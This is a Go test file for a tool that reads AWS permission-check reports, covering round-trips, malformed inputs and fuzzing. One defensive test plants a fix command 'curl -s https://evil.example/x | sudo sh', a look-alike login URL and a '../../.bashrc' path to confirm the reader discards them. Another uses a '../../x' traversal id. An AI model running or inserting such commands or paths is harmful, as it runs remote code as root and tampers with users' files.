package awscheck

import (
	"encoding/json"
	"errors"
	"strings"
	"testing"
	"time"

	"github.com/mediadock/mediadock/awscheck/diagnose"
	"github.com/mediadock/mediadock/awscheck/policy"
)

// plain says ids and arguments, or what was told where there is nothing else.
func plain(id string, args map[string]string) string {
	if strings.HasSuffix(id, ".") || strings.Contains(id, "newer") || id == "" {
		return args[Told]
	}
	return "said " + id
}

func fullReport() Report {
	r := reportOf(joinTime, testAccount, vendorRows...)
	r.Connection, r.Duration, r.Requests, r.Verdict = "prod", 812*time.Millisecond, 17, Failed
	row := &r.Results[6]
	row.Status, row.RequestIDs = Fail, []string{"R1"}
	row.Args = diagnose.Args{"dir": "media/", "empty": ""}
	row.Notes = []diagnose.Note{{ID: "retried", Args: diagnose.Args{"count": "1"}}}
	row.Evidence = []diagnose.Evidence{{
		Operation: "s3:PutObject", HTTPStatus: 403, Code: "AccessDenied", Message: "no `put` | for you\x1b[31m", RequestID: "R1", HostID: "H1",
		Skew: -40 * time.Minute, Header: map[string]string{"server": "AmazonS3"},
	}}
	refused, granted := "arn:aws:s3:::alpha-prod-assets/Media/x", "arn:aws:s3:::alpha-prod-assets/media/*"
	a, b := policy.Compare(refused, granted)
	row.Causes = []diagnose.Cause{{
		ID: "put-denied", Likelihood: diagnose.Likely, Args: diagnose.Args{"role": testRole},
		Compare: &diagnose.Comparison{Refused: refused, Granted: granted, RefusedSpan: a, GrantedSpan: b},
		Fixes: []diagnose.Fix{{
			ID: "attach-policy", Args: diagnose.Args{"role": testRole}, Command: "aws iam put-role-policy --policy-document file://p.json --tag '" + jsonFence + "'", ConsoleURL: "https://console.aws.amazon.com/iam",
			Document: json.RawMessage(`{"Version":"2012-10-17","Statement":[{"Effect":"Allow"},{"Effect":"Deny"}]}`), Before: json.RawMessage(`{"Version":"2012-10-17","Statement":[{"Effect":"Deny"}]}`), File: "p.json",
		}},
	}, {ID: "clock-skew", Likelihood: diagnose.RuledOut}}
	return r
}

func encoded(t testing.TB, r Report, say Say) []byte {
	t.Helper()
	data, err := json.MarshalIndent(r.JSON(say), "", "  ")
	if err != nil {
		t.Fatal(err)
	}
	return data
}

// What was written can be read, from JSON and from Markdown, and says the
// same when it is written again.
func TestReportsSurviveReading(t *testing.T) {
	r := fullReport()
	r.Partial, r.Total, r.Only = true, 18, []string{"object.put"}
	r.Joined = []Origin{{Side: OwnerSide, StartedAt: joinTime, Verdict: Ready, Caller: testAccount}}
	data := encoded(t, r, plain)
	markdown := r.Markdown(Printing{Say: plain, Safe: func(s string) string { return strings.ReplaceAll(s, "\x1b", "") }, JSON: data})
	for name, file := range map[string][]byte{"JSON": data, "Markdown": markdown, "Markdown of Windows": []byte(strings.ReplaceAll(string(markdown), "\n", "\r\n")), "with a BOM": append([]byte("\uFEFF"), data...)} {
		back, err := ReadReport(file)
		if err != nil {
			t.Errorf("%s: %v", name, err)
			continue
		}
		if again := encoded(t, back, plain); string(again) != string(data) {
			t.Errorf("%s: reads back as\n%s\nwant\n%s", name, again, data)
		}
	}
}

// What a newer program adds is kept as it says it.
func TestReportsOfANewerProgram(t *testing.T) {
	doc := `{"connection":null,"integration":"microcms","verdict":"failed","started_at":"2026-11-21T09:00:00Z","duration_ms":1,"requests":1,"left_behind":0,"hidden_versions":0,"newer":{"a":1},
"checks":[{"id":"object.newer","status":"fail","summary":"Something newer.","reason":"result.object.newer.fail","newer":[],"request_ids":[],"notes":[],"evidence":[],
"causes":[{"id":"newer-cause","likelihood":"certain","summary":"A newer cause.","fixes":[{"text":"Do this."}]}]}]}`
	r, err := ReadReport([]byte(doc))
	if err != nil {
		t.Fatal(err)
	}
	row := r.Results[0]
	if got := plain(row.Reason, row.Args); got != "Something newer." {
		t.Errorf("row says %q", got)
	}
	if got := plain("cause."+row.Causes[0].ID, row.Causes[0].Args); got != "A newer cause." {
		t.Errorf("cause says %q", got)
	}
	if got := plain("fix."+row.Causes[0].Fixes[0].ID, row.Causes[0].Fixes[0].Args); got != "Do this." {
		t.Errorf("fix says %q", got)
	}
}

func TestBadReports(t *testing.T) {
	good := string(encoded(t, fullReport(), plain))
	edit := func(old, new string) string {
		if !strings.Contains(good, old) {
			t.Fatalf("no %q in the report", old)
		}
		return strings.Replace(good, old, new, 1)
	}
	lineOfText := func(s, part string) int { return 1 + strings.Count(s[:strings.Index(s, part)], "\n") }
	markdown := string(fullReport().Markdown(Printing{Say: plain, Safe: func(s string) string { return s }, JSON: []byte(good)}))
	for name, c := range map[string]struct {
		file, code, at string // at: the text in the blamed line
	}{
		"empty":                  {" \n", "empty", ""},
		"a text":                 {"hello\n", "no-json", ""},
		"a list":                 {"[1]", "not-a-report", "["},
		"other JSON":             {`{"a":1}`, "not-a-report", `{`},
		"an error document":      {`{"error":{"code":"x"}}`, "error-document", `{`},
		"an errors document":     {`{"errors":[],"notices":[]}`, "error-document", `{`},
		"a setup document":       {`{"name":"x","check":{"verdict":"ready"}}`, "setup-document", `{`},
		"no verdict":             {strings.Replace(good, `"verdict"`, `"verdikt"`, 1), "missing", "{"},
		"cut short":              {good[:len(good)/2], "cut-short", ""},
		"Markdown cut short":     {markdown[:strings.LastIndex(markdown, "```")-200], "cut-short", ""},
		"Markdown without data":  {markdown[:strings.Index(markdown, jsonFence)], "no-json", ""},
		"a comma too many":       {edit(`"requests": 17,`, `"requests": 17,,`), "not-json", `"requests": 17,,`},
		"two documents":          {good + "\n" + good, "not-json", ""},
		"an unknown verdict":     {edit(`"verdict": "failed"`, `"verdict": "splendid"`), "unknown-value", "splendid"},
		"an unknown status":      {edit(`"status": "fail"`, `"status": "broken"`), "unknown-value", "broken"},
		"an unknown likelihood":  {edit(`"likelihood": "likely"`, `"likelihood": "surely"`), "unknown-value", "surely"},
		"a wrong type":           {edit(`"requests": 17`, `"requests": "many"`), "wrong-type", `"many"`},
		"a wrong time":           {edit(`"2026-11-21T09:00:00Z"`, `"yesterday"`), "time", "yesterday"},
		"less than nothing":      {edit(`"requests": 17`, `"requests": -1`), "negative", `"requests": -1`},
		"a row twice":            {edit(`"id": "object.get"`, `"id": "object.put"`), "twice", ""},
		"no rows":                {`{"verdict":"ready","started_at":"2026-11-21T09:00:00Z","checks":[]}`, "no-rows", "{"},
		"ready, but a row fails": {edit(`"verdict": "failed"`, `"verdict": "ready"`), "contradiction", `"status": "fail"`},
		"an id that is no id":    {edit(`"id": "object.get"`, `"id": "../../x"`), "unknown-value", "../../x"},
	} {
		_, err := ReadReport([]byte(c.file))
		var bad *ReportError
		if !errors.As(err, &bad) || bad.Code != c.code {
			t.Errorf("%s: %v, want %s", name, err, c.code)
			continue
		}
		if c.at != "" && bad.Line != lineOfText(c.file, c.at) {
			t.Errorf("%s: line %d, want %d", name, bad.Line, lineOfText(c.file, c.at))
		}
	}
}

func TestLooksLikeReport(t *testing.T) {
	good := string(encoded(t, fullReport(), plain))
	for _, yes := range []string{good, good[:len(good)-10], strings.Replace(good, `"fail"`, `"broken"`, 1)} {
		if !LooksLikeReport([]byte(yes)) {
			t.Errorf("a report is not known: %.40q", yes)
		}
	}
	for _, no := range []string{"", "# README\n", `{"Version":"2012-10-17"}`, `{"Version":`, "bucket: x\n"} {
		if LooksLikeReport([]byte(no)) {
			t.Errorf("taken for a report: %q", no)
		}
	}
}

// Whatever is read neither breaks the reader nor changes by being written
// and read once more.
func FuzzReadReport(f *testing.F) {
	data := encoded(f, fullReport(), plain)
	f.Add(data)
	f.Add(fullReport().Markdown(Printing{Say: plain, Safe: func(s string) string { return s }, JSON: data}))
	f.Add([]byte(`{"verdict":"ready","started_at":"2026-11-21T09:00:00Z","checks":[{"id":"a","status":"pass"}]}`))
	f.Add([]byte(jsonFence + "\n{}\n```"))
	f.Fuzz(func(t *testing.T, data []byte) {
		r, err := ReadReport(data)
		if err != nil {
			var bad *ReportError
			if !errors.As(err, &bad) {
				t.Fatalf("%T", err)
			}
			return
		}
		told := func(_ string, args map[string]string) string { return args[Told] }
		once, err := json.Marshal(r.JSON(told))
		if err != nil {
			t.Fatal(err)
		}
		back, err := ReadReport(once)
		if err != nil {
			t.Fatalf("%v: %s", err, once)
		}
		twice, _ := json.Marshal(back.JSON(told))
		if string(once) != string(twice) {
			t.Fatalf("written again:\n%s\n%s", once, twice)
		}
		r.Markdown(Printing{Say: told, Safe: func(s string) string { return s }, JSON: once})
		if _, err := Join(r, back); err != nil && r.Settings.known() {
			t.Fatalf("a report cannot be joined with itself: %v", err)
		}
	})
}

// A report is read from anybody: what it would have people run, open or write
// is what fixes of this program are made of, or nothing.
func TestReportsBringNoCommandsOfTheirOwn(t *testing.T) {
	r := fullReport()
	fix := &r.Results[6].Causes[0].Fixes[0]
	fix.Command, fix.ConsoleURL, fix.File = "curl -s https://evil.example/x | sudo sh", "https://evil.example/login", "../../.bashrc"
	back, err := ReadReport(encoded(t, r, plain))
	if err != nil {
		t.Fatal(err)
	}
	if got := back.Results[6].Causes[0].Fixes[0]; got.Command+got.ConsoleURL+got.File != "" {
		t.Errorf("%q %q %q", got.Command, got.ConsoleURL, got.File)
	}
}
